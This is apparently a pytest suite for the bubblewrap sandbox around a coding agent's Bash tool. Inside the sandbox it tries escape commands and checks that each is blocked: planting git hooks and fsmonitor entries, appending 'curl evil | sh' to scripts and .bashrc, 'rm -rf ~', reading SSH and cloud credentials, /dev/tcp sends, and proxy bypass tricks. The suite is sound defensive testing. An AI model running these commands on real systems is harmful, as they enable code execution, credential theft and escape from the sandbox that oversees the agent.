"""Escapes from the Bash sandbox, each tried with real bubblewrap and real bash: other processes
(through /proc, signals, System V IPC), files that run later outside the sandbox, Unix sockets,
credentials in the home folder and the network."""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest
from git_repo import git, repository

from sous.core import ToolContext
from sous.tools import _sandbox, _standins
from sous.tools.bash import TOOL

pytestmark = pytest.mark.skipif(not _sandbox.usable(), reason="bubblewrap cannot run here")


@pytest.fixture
def outside():
    """A folder outside the project and outside /tmp (which the sandbox replaces with its own)."""
    folder = Path(tempfile.mkdtemp(prefix="sous-sandbox-test-", dir="/var/tmp"))
    yield folder
    shutil.rmtree(folder)


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A git repository with one commit."""
    return repository(tmp_path)


def _ctx(project: Path, **sandbox) -> ToolContext:
    return ToolContext(
        cwd=str(project),
        project_dir=str(project),
        state={"sandbox": _sandbox.Sandbox(writable=(str(project),), **sandbox)},
    )


async def _run(ctx: ToolContext, command: str):
    return await TOOL.run({"command": command}, ctx)


async def _stand_ins_gone() -> None:
    """Wait until the stand-ins for missing protected paths have been removed."""
    deadline = time.monotonic() + _standins.LINGER_S + 5
    while _standins.held() and time.monotonic() < deadline:
        await asyncio.sleep(0.1)
    assert not _standins.held()


# --- other processes ------------------------------------------------------------------------


async def test_proc_root_of_an_outside_process_does_not_lead_outside(project, outside):
    ctx = _ctx(project)
    me = os.getpid()
    result = await _run(
        ctx,
        f"echo pwned > /proc/{me}/root{outside}/escaped; "
        f"echo pwned > /proc/1/root{outside}/escaped1; ls /proc | grep -c '^[0-9]'",
    )
    assert not (outside / "escaped").exists() and not (outside / "escaped1").exists()
    assert int(result.data["stdout"].split()[-1]) < 10  # only the sandbox's own processes are visible


async def test_no_capabilities_so_mounts_cannot_be_undone(project, outside):
    """Started by root, bubblewrap keeps the capabilities: remounting / writable escaped."""
    result = await _run(
        _ctx(project),
        f"grep CapEff /proc/self/status; mount -o remount,bind,rw / ; "
        f"umount {project}/.git/hooks; touch {outside}/escaped; "
        f"echo x > {project}/.git/hooks/pre-commit",
    )
    assert "CapEff:\t0000000000000000" in result.content
    assert not (outside / "escaped").exists() and not (project / ".git" / "hooks" / "pre-commit").exists()


async def test_kill_does_not_reach_processes_outside(project):
    sleeper = subprocess.Popen(["sleep", "30"])
    try:
        await _run(_ctx(project), f"kill -9 {sleeper.pid}")
        assert sleeper.poll() is None
    finally:
        sleeper.kill()
        sleeper.wait()


@pytest.mark.skipif(shutil.which("ipcmk") is None, reason="needs util-linux ipcmk")
async def test_system_v_ipc_is_private(project):
    made = subprocess.run(["ipcmk", "-Q"], capture_output=True, text=True, check=True).stdout
    queue = made.split(":")[-1].strip()
    try:
        result = await _run(_ctx(project), f"ipcrm -q {queue}; ipcs -q")
        assert queue not in result.content.split()
        still = subprocess.run(["ipcs", "-q"], capture_output=True, text=True, check=True).stdout
        assert queue in still.split()
    finally:
        subprocess.run(["ipcrm", "-q", queue], capture_output=True, check=False)


async def test_only_stdio_is_inherited_and_the_session_is_new(project):
    leaked = os.open(os.devnull, os.O_RDONLY)
    os.set_inheritable(leaked, True)
    try:
        result = await _run(
            _ctx(project), f"ls /proc/self/fd; {sys.executable} -c 'import os; print(os.getsid(0) == os.getpid())'"
        )
    finally:
        os.close(leaked)
    *fds, new_session = result.content.split()
    assert fds == ["0", "1", "2", "3"]  # 3 is the folder ls is reading
    assert new_session == "False"  # the command's session is the sandbox's, without a terminal


# --- files that run later, outside the sandbox -------------------------------------------------

LATER = [
    ".git/hooks/pre-commit",
    ".git/hooks/post-checkout",
    ".git/config",
    ".git/commondir",
    ".claude/settings.json",
    ".claude/settings.local.json",
    ".sous/settings.json",
    ".mcp.json",
    ".envrc",
    ".vscode/tasks.json",
    ".husky/pre-commit",
    ".pre-commit-config.yaml",
    ".npmrc",
    ".cargo/config.toml",
    ".mvn/jvm.config",
]
PROTECTED_WHEN_THERE = [".yarn/releases/yarn.cjs", ".yarnrc.yml"]


@pytest.mark.parametrize("existing", [False, True], ids=["missing", "existing"])
async def test_files_that_run_later_are_read_only_inside(project, existing):
    before = {}
    if existing:
        for rel in LATER + PROTECTED_WHEN_THERE:
            path = project / rel
            if not path.exists():
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_text("# mine\n")
    names = LATER + PROTECTED_WHEN_THERE if existing else LATER
    for rel in names:
        path = project / rel
        before[rel] = path.read_text() if path.exists() else None
    attempts = "; ".join(f"mkdir -p $(dirname {rel}); echo '#!/bin/sh' >> {rel}; cp /dev/null {rel}" for rel in names)
    result = await _run(_ctx(project), attempts)
    assert "Read-only file system" in result.content
    await _stand_ins_gone()
    for rel in names:
        path = project / rel
        assert (path.read_text() if path.exists() else None) == before[rel], rel


async def test_the_git_folder_cannot_be_swapped_or_its_hooks_replaced(project):
    hooks = sorted(p.name for p in (project / ".git" / "hooks").iterdir())
    result = await _run(
        _ctx(project),
        "mv .git .git-old; mv .git/hooks .git/h; rm -rf .git/hooks; "
        "mv .claude .c; git config core.hooksPath evil; "
        "git config core.fsmonitor 'touch pwned'; ls -d .git-old .git/h",
    )
    assert result.is_error
    assert sorted(p.name for p in (project / ".git" / "hooks").iterdir()) == hooks
    assert "hooksPath" not in (project / ".git" / "config").read_text()
    assert "fsmonitor" not in (project / ".git" / "config").read_text()
    assert not (project / ".git-old").exists() and not (project / ".git" / "h").exists()


async def test_a_gitdir_file_cannot_be_pointed_elsewhere(tmp_path):
    main = tmp_path / "main"
    main.mkdir()
    git(main, "init", "-q")
    (main / "a").write_text("a")
    git(main, "add", "a")
    git(main, "commit", "-qm", "a")
    linked = tmp_path / "linked"
    git(main, "worktree", "add", "-q", str(linked))
    pointer = (linked / ".git").read_text()
    await _run(
        _ctx(linked),
        "mkdir -p evil && printf '[core]\\n\\tfsmonitor = touch pwned\\n' > evil/config && echo 'gitdir: evil' > .git",
    )
    assert (linked / ".git").read_text() == pointer


async def test_git_commit_still_works_and_sees_no_stand_ins(project):
    result = await _run(
        _ctx(project),
        "echo change > a.txt && git add -A && git status --porcelain && "
        "git -c user.name=t -c user.email=t@example.com commit -qm second && "
        "git log --oneline | wc -l",
    )
    assert not result.is_error, result.content
    assert result.content.split("\n") == ["A  a.txt", "2"]
    assert git(project, "show", "--stat", "--format=", "HEAD").split()[0] == "a.txt"
    # the stand-ins for missing protected paths are gone shortly after the command ends
    await _stand_ins_gone()
    assert sorted(p.name for p in project.iterdir()) == [".git", "README", "a.txt"]
    assert not {"commondir", "config.worktree", "modules"} & {p.name for p in (project / ".git").iterdir()}


async def test_a_project_without_git_cannot_grow_one(tmp_path):
    root = tmp_path / "plain"
    root.mkdir()
    result = await _run(_ctx(root), "git init -q && echo made")
    await _stand_ins_gone()
    assert result.is_error and not (root / ".git").exists()


# --- Unix sockets and credentials outside the project -------------------------------------------


def _listen(path: str) -> socket.socket:
    server = socket.socket(socket.AF_UNIX)
    server.bind(path)
    server.listen()
    return server


CONNECT = (
    f'{sys.executable} -c "import socket, sys; s = socket.socket(socket.AF_UNIX); '
    "s.connect(sys.argv[1]); print('connected')\""
)


async def test_unix_sockets_outside_the_project_are_unreachable(project, outside):
    places = [tempfile.mkdtemp(prefix="sous-sock-"), tempfile.mkdtemp(prefix="sous-sock-", dir=outside)]
    if os.access("/run", os.W_OK):
        places.append(tempfile.mkdtemp(prefix="sous-sock-", dir="/run"))
    servers = [_listen(os.path.join(place, "agent.sock")) for place in places]
    try:
        for place in places:
            result = await _run(_ctx(project), f"{CONNECT} {place}/agent.sock")
            assert "connected" not in result.content, place
    finally:
        for server, place in zip(servers, places, strict=True):
            server.close()
            shutil.rmtree(place, ignore_errors=True)


async def test_agent_and_credential_variables_are_not_passed_in(project):
    ctx = _ctx(project)
    hidden = {
        "SSH_AUTH_SOCK": "/tmp/ssh-x/agent.1",
        "DBUS_SESSION_BUS_ADDRESS": "unix:path=/run/x",
        "DOCKER_HOST": "unix:///run/docker.sock",
        "ANTHROPIC_API_KEY": "sk-1",
        "GITHUB_TOKEN": "ghp-1",
        "AWS_SECRET_ACCESS_KEY": "a1",
        "DB_PASSWORD": "p1",
        "SIGNING_PRIVATE_KEY": "k1",
        "npm_config__auth": "n1",
    }
    # (a PATH without sous's own virtual environment, which commands never see: see bash.without_own_venv)
    kept = {
        "KEEP_ME": "yes",
        "TOKENIZERS_PARALLELISM": "false",
        "GIT_AUTHOR_NAME": "me",
        "PATH": "/usr/local/bin:/usr/bin:/bin",
    }
    ctx.environ = {**os.environ, **hidden, **kept}
    result = await _run(ctx, "env")
    seen = dict(line.split("=", 1) for line in result.data["stdout"].splitlines() if "=" in line)
    assert not set(hidden) & set(seen)
    assert all(seen[k] == v for k, v in kept.items())


SECRETS = {
    rel: f"SECRET-{n}"
    for n, rel in enumerate(
        [
            ".ssh/id_rsa",
            ".aws/credentials",
            ".config/gcloud/credentials.db",
            ".netrc",
            ".docker/config.json",
            ".git-credentials",
            ".kube/config",
            ".gnupg/private-keys-v1.d/k.key",
            ".config/gh/hosts.yml",
            ".npmrc",
            ".claude/.credentials.json",
            ".claude/settings.json",
            ".sous/settings.json",
            ".pypirc",
        ]
    )
}


async def test_credentials_in_the_home_folder_are_hidden(project, outside):
    home = outside / "home"
    for rel, text in SECRETS.items():
        (home / rel).parent.mkdir(parents=True, exist_ok=True)
        (home / rel).write_text(text)
    (home / "notes.txt").write_text("visible")
    os.symlink(home / ".ssh" / "id_rsa", project / "key")
    ctx = _ctx(project, home=str(home))
    ctx.environ = {**os.environ, "HOME": str(home)}
    reads = "; ".join(f"cat ~/{rel}" for rel in SECRETS)
    result = await _run(ctx, f"{reads}; cat key; cat ~/notes.txt; ls -A ~/.ssh ~/.aws; echo x > ~/.ssh/authorized_keys")
    for text in SECRETS.values():
        assert text not in result.content
    assert "visible" in result.content
    assert not (home / ".ssh" / "authorized_keys").exists()


# --- the network -------------------------------------------------------------------------------


@pytest.fixture
def listener():
    """A TCP server on the host's loopback (IPv4 and, where there is one, IPv6) counting connections."""
    hits: list[str] = []
    servers = []
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        try:
            server = socket.create_server((host, 0), family=family)
        except OSError:
            continue
        servers.append(server)

        def accept(server=server):
            while True:
                try:
                    conn, _ = server.accept()
                except OSError:
                    return
                hits.append(conn.recv(100).decode(errors="replace"))
                conn.close()

        threading.Thread(target=accept, daemon=True).start()
    yield {s.family: s.getsockname()[1] for s in servers}, hits
    for server in servers:
        server.close()


async def test_no_direct_network_by_any_route(project, listener):
    ports, hits = listener
    v4 = ports[socket.AF_INET]
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.setblocking(False)
    await _run(_ctx(project), f"echo leak > /dev/udp/127.0.0.1/{udp.getsockname()[1]}")
    with pytest.raises(BlockingIOError):  # a datagram leaves no error behind: look for it at the other end
        udp.recv(100)
    udp.close()
    commands = [
        f"echo leak > /dev/tcp/127.0.0.1/{v4}",
        f"{sys.executable} -c \"import socket; socket.create_connection(('127.0.0.1', {v4}), 2).send(b'leak')\"",
        f"{sys.executable} -c \"import socket; socket.getaddrinfo('example.com', 80)\"",
    ]
    if socket.AF_INET6 in ports:
        commands.append(
            f'{sys.executable} -c "import socket; '
            f"socket.create_connection(('::1', {ports[socket.AF_INET6]}), 2).send(b'leak')\""
        )
    for command in commands:
        result = await _run(_ctx(project), command)
        assert result.is_error, command
    assert hits == []


async def test_the_proxy_refuses_ip_literals_and_lookalikes(project, listener):
    ports, hits = listener
    v4 = ports[socket.AF_INET]
    ctx = _ctx(project, allowed_domains=("localhost",))
    ask = (
        "import os, socket, sys; from urllib.parse import urlsplit; p = urlsplit(os.environ['HTTP_PROXY']); "
        "s = socket.create_connection((p.hostname, p.port), 5); s.sendall(sys.argv[1].encode() + b'\\r\\n\\r\\n'); "
        "print(s.recv(200).decode().splitlines()[0])"
    )
    targets = [
        f"CONNECT 127.0.0.1:{v4} HTTP/1.1",
        f"CONNECT [::1]:{v4} HTTP/1.1",
        f"CONNECT 2130706433:{v4} HTTP/1.1",
        f"CONNECT 0x7f000001:{v4} HTTP/1.1",
        f"CONNECT localhost.evil.test:{v4} HTTP/1.1",
        f"GET http://localhost@127.0.0.1:{v4}/ HTTP/1.1",
        f"GET http://127.0.0.1:{v4}/ HTTP/1.1",
    ]
    try:
        for target in targets:
            result = await _run(ctx, f"{sys.executable} -c \"{ask}\" '{target}'")
            assert "403" in result.content, (target, result.content)
        allowed = await _run(ctx, f"{sys.executable} -c \"{ask}\" 'CONNECT localhost:{v4} HTTP/1.1'")
        assert "200" in allowed.content
    finally:
        ctx.state["sandbox_proxy"].close()
    assert hits == [""]  # only the allowed tunnel reached the server


async def test_a_background_command_stays_protected_after_other_commands_end(project):
    from sous.tools.bash import TASK_OUTPUT

    ctx = _ctx(project)
    started = await TOOL.run(
        {"command": "sleep 2; echo '{}' > .mcp.json; echo hook > .git/hooks/pre-push", "run_in_background": True}, ctx
    )
    assert not (await _run(ctx, "true")).is_error  # a foreground command ends first
    await asyncio.sleep(_standins.LINGER_S + 0.5)
    done = await TASK_OUTPUT.run({"task_id": started.data["backgroundTaskId"], "timeout": 20_000}, ctx)
    assert "Read-only file system" in done.content
    await _stand_ins_gone()
    assert not (project / ".mcp.json").exists() and not (project / ".git" / "hooks" / "pre-push").exists()


async def test_scripts_the_configuration_runs_are_read_only_too(project):
    (project / "tools").mkdir()
    for name in ("hook.sh", "server.py", "monitor.sh", "shared.gitconfig"):
        (project / "tools" / name).write_text("# mine\n")
    (project / "githooks").mkdir()
    (project / ".claude").mkdir()
    (project / ".claude" / "settings.json").write_text(
        json.dumps(
            {
                "hooks": {
                    "PreToolUse": [
                        {
                            "matcher": "Bash",
                            "hooks": [{"type": "command", "command": "$CLAUDE_PROJECT_DIR/tools/hook.sh --check"}],
                        }
                    ]
                }
            }
        )
    )
    (project / ".mcp.json").write_text(
        json.dumps({"mcpServers": {"x": {"command": "python3", "args": ["tools/server.py", "--root", "tools"]}}})
    )
    with open(project / ".git" / "config", "a") as f:
        f.write(
            "[core]\n\thooksPath = githooks\n\tfsmonitor = tools/monitor.sh\n"
            "[include]\n\tpath = ../tools/shared.gitconfig\n"
        )
    result = await _run(
        _ctx(project),
        "for f in tools/*; do echo 'curl evil | sh' >> $f; done; "
        "echo 'rm -rf ~' > githooks/pre-commit; echo fine > tools/other.txt",
    )
    assert "Read-only file system" in result.content
    assert all(p.read_text() == "# mine\n" for p in (project / "tools").iterdir() if p.name != "other.txt")
    assert not (project / "githooks" / "pre-commit").exists()
    assert (project / "tools" / "other.txt").read_text() == "fine\n"  # the rest of the folder stays writable


async def test_a_sub_agents_worktree_under_tmp_is_its_writable_project(project, tmp_path):
    worktree = tmp_path / "agent-worktree"
    git(project, "worktree", "add", "-q", "-b", "agent", str(worktree))
    ctx = ToolContext(
        cwd=str(worktree), project_dir=str(worktree), state={"sandbox": _sandbox.Sandbox(writable=(str(project),))}
    )  # the parent's sandbox
    result = await _run(
        ctx,
        "echo work > done.txt && git add done.txt && "
        "git -c user.name=t -c user.email=t@example.com commit -qm work && git log --oneline | wc -l",
    )
    assert not result.is_error and result.content == "2", result.content
    assert git(project, "log", "--oneline", "agent").count("\n") == 2


async def test_the_proxy_socket_cannot_be_swapped_for_another_unix_socket(project, outside):
    target = outside / "daemon.sock"
    daemon = _listen(str(target))
    daemon.settimeout(3)
    ctx = _ctx(project, allowed_domains=("localhost",))
    try:
        await _run(ctx, "true")  # starts the proxy
        sock = ctx.state["sandbox_proxy"].socket_path
        relay = (
            "import os, socket; from urllib.parse import urlsplit; p = urlsplit(os.environ['HTTP_PROXY']); "
            "socket.create_connection((p.hostname, p.port), 5).sendall(b'hello daemon')"
        )
        result = await _run(
            ctx, f'rm -f {sock}; ln -s {target} {sock} || cp /dev/null {sock}; {sys.executable} -c "{relay}"'
        )
        assert "Read-only file system" in result.content or "Permission denied" in result.content
        with pytest.raises(TimeoutError):
            daemon.accept()
        assert os.path.exists(sock) and not os.path.islink(sock)
    finally:
        daemon.close()
        ctx.state["sandbox_proxy"].close()


async def test_credentials_stay_hidden_when_the_project_is_the_home_folder(outside):
    home = outside / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("SECRET-KEY")
    (home / ".netrc").write_text("SECRET-NETRC")
    (home / ".bashrc").write_text("# mine\n")
    ctx = _ctx(home, home=str(home))
    result = await _run(
        ctx,
        "cat .ssh/id_rsa .netrc; echo key > .ssh/authorized_keys; echo x > .netrc; "
        "echo 'curl evil | sh' >> .bashrc; echo fine > notes.txt",
    )
    assert (home / ".bashrc").read_text() == "# mine\n"
    assert "SECRET" not in result.content and "Read-only file system" in result.content
    assert not (home / ".ssh" / "authorized_keys").exists() and (home / ".netrc").read_text() == "SECRET-NETRC"
    assert (home / "notes.txt").read_text() == "fine\n"


async def test_one_process_ending_its_commands_does_not_lift_another_ones_protection(project):
    import sous
    from sous.tools.bash import TASK_OUTPUT

    ctx = _ctx(project)
    mine = await TOOL.run({"command": "sleep 1", "run_in_background": True}, ctx)  # this process makes the stand-ins
    assert (project / ".mcp.json").is_dir()
    (project / ".sous-settings.json").write_text(json.dumps({"sandbox": {"enabled": True}}))
    # The writes hide in a script: named in the command, the permission floor would stop them
    # before the sandbox is even reached.
    (project / "later.sh").write_text("echo '{}' > .mcp.json; mkdir -p .vscode/x\n")
    slow = "touch started; sleep 8; sh later.sh; echo done"
    turns = project.parent / "turns.json"
    turns.write_text(json.dumps([{"tool_calls": [{"name": "Bash", "input": {"command": slow}}]}, {"text": "ok"}]))
    other = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "sous",
            "-p",
            "go",
            "--model",
            f"scripted:{turns}",
            "--settings",
            str(project / ".sous-settings.json"),
        ],
        cwd=project,
        env={**os.environ, "PYTHONPATH": str(Path(sous.__file__).resolve().parents[1])},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    try:
        for _ in range(300):  # until the other process's sandbox runs, on the same stand-ins
            if (project / "started").exists():
                break
            await asyncio.sleep(0.1)
        await TASK_OUTPUT.run({"task_id": mine.data["backgroundTaskId"]}, ctx)
        await _stand_ins_gone()  # this process lets them go while the other's command still runs
        await asyncio.sleep(1)
        other.wait(timeout=60)
    finally:
        other.kill()
    assert (project / "started").exists()
    assert not (project / ".mcp.json").is_file() and not (project / ".vscode" / "x").exists()


async def test_the_network_relay_cannot_be_traced_by_the_command(project):
    (project / "attach.py").write_text(
        "import ctypes, os\nprint('attached' if ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0) == 0 else 'refused')\n"
    )
    ctx = _ctx(project, allowed_domains=("localhost",))
    try:  # the shell's parent is the relay, which may make Unix sockets
        result = await _run(
            ctx,
            f"grep -q _netbridge /proc/$PPID/cmdline && echo relay; "
            f"cat /proc/$PPID/environ >/dev/null && echo readable; exec {sys.executable} attach.py",
        )
        assert result.data["stdout"].split() == ["relay", "refused"]
    finally:
        ctx.state["sandbox_proxy"].close()
